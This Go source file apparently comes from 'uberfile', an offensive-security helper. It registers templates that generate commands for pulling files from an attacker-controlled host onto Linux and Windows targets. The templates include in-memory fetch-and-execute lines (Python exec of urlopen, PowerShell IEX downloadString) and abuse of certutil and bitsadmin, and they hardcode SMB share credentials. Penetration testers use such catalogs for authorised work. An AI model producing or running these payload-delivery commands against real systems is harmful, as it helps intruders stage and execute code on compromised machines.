package registry

import (
	"github.com/dpshade/uberfile/internal/models"
)

var (
	web = []models.Protocol{models.ProtocolHTTP, models.ProtocolHTTPS}
	ftp = []models.Protocol{models.ProtocolFTP}
	smb = []models.Protocol{models.ProtocolSMB}
	scp = []models.Protocol{models.ProtocolSCP}
)

// Default builds the registry with the built-in command catalog
func Default() *Registry {
	b := NewBuilder()

	// Linux, HTTP/HTTPS
	b.MustAdd(models.Linux, "curl", models.NewTemplate("curl",
		`curl {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} -o {OUTPUTFILE}`, "", web...))
	b.MustAdd(models.Linux, "wget", models.NewTemplate("wget",
		`wget {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} -O {OUTPUTFILE}`, "", web...))
	b.MustAdd(models.Linux, "python", models.NewTemplate("python-memory",
		`python -c "import urllib2; exec urllib2.urlopen('{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}').read()"`,
		"In memory", web...))

	// Linux, FTP
	b.MustAdd(models.Linux, "ftp", models.NewTemplate("ftp",
		"ftp -n {LHOST} {LPORT} <<EOF\nuser anonymous anonymous\nget {INPUTFILE} {OUTPUTFILE}\nbye\nEOF", "", ftp...))

	// Linux, SCP
	b.MustAdd(models.Linux, "scp", models.NewTemplate("scp",
		`scp -P {LPORT} {LHOST}:{INPUTFILE} {OUTPUTFILE}`, "", scp...))

	// Linux, SMB
	b.MustAdd(models.Linux, "smbclient", models.NewTemplate("smbclient",
		`smbclient //{LHOST}/EXEGOL -U uberfile%exegol4thewin -c "get {INPUTFILE} {OUTPUTFILE}"`, "", smb...))

	// Windows, HTTP/HTTPS
	b.MustAdd(models.Windows, "certutil", models.NewTemplate("certutil",
		`certutil.exe -urlcache -f {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}`, "", web...))
	b.MustAdd(models.Windows, "powershell", models.NewTemplate("powershell-download",
		`powershell.exe -c "(New-Object Net.WebClient).DownloadFile('{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}','{OUTPUTFILE}')"`, "", web...))
	b.MustAdd(models.Windows, "powershell", models.NewTemplate("powershell-webrequest",
		`powershell.exe -c "Invoke-WebRequest '{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}' -OutFile '{OUTPUTFILE}'"`, "", web...))
	b.MustAdd(models.Windows, "powershell", models.NewTemplate("powershell-bits",
		`powershell.exe -c "Import-Module BitsTransfer; Start-BitsTransfer -Source '{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}'"`, "", web...))
	b.MustAdd(models.Windows, "powershell", models.NewTemplate("powershell-bits-async",
		`powershell.exe -c "Import-Module BitsTransfer; Start-BitsTransfer -Source '{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}' -Destination '{OUTPUTFILE}' -Asynchronous"`, "", web...))
	b.MustAdd(models.Windows, "powershell", models.NewTemplate("powershell-memory",
		`powershell.exe "IEX(New-Object Net.WebClient).downloadString('{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}')"`,
		"In memory", web...))
	b.MustAdd(models.Windows, "bitsadmin", models.NewTemplate("bitsadmin",
		`bitsadmin.exe /transfer 5720 /download /priority normal {PROTO}://{LHOST}:{LPORT}/{INPUTFILE} {OUTPUTFILE}`, "", web...))
	b.MustAdd(models.Windows, "wget", models.NewTemplate("wget",
		`wget "{PROTO}://{LHOST}:{LPORT}/{INPUTFILE}" -OutFile "{OUTPUTFILE}"`, "", web...))

	// Windows, FTP
	b.MustAdd(models.Windows, "ftp", models.NewTemplate("ftp",
		`echo open {LHOST} {LPORT}> ftp.txt && echo user anonymous anonymous>> ftp.txt && echo get {INPUTFILE} {OUTPUTFILE}>> ftp.txt && echo bye>> ftp.txt && ftp -s:ftp.txt && del ftp.txt`, "", ftp...))

	// Windows, SMB
	b.MustAdd(models.Windows, "net-use", models.NewTemplate("net-use",
		`net use \\{LHOST}\EXEGOL /user:uberfile exegol4thewin && copy \\{LHOST}\EXEGOL\{INPUTFILE} {OUTPUTFILE} && net use \\{LHOST}\EXEGOL /delete`, "", smb...))
	b.MustAdd(models.Windows, "powershell-smb", models.NewTemplate("powershell-smb",
		`powershell.exe -c "$pass = ConvertTo-SecureString 'exegol4thewin' -AsPlainText -Force; $cred = New-Object System.Management.Automation.PSCredential('uberfile', $pass); New-PSDrive -Name 'Z' -PSProvider FileSystem -Root \\{LHOST}\EXEGOL -Credential $cred; Copy-Item -Path Z:\{INPUTFILE} -Destination {OUTPUTFILE}; Remove-PSDrive -Name 'Z'"`, "", smb...))
	b.MustAdd(models.Windows, "robocopy", models.NewTemplate("robocopy",
		`net use \\{LHOST}\EXEGOL /user:uberfile exegol4thewin && robocopy \\{LHOST}\EXEGOL . {INPUTFILE} /COPY:DAT /Z && net use \\{LHOST}\EXEGOL /delete`,
		"Robust copy with restart capability", smb...))

	return b.Build()
}
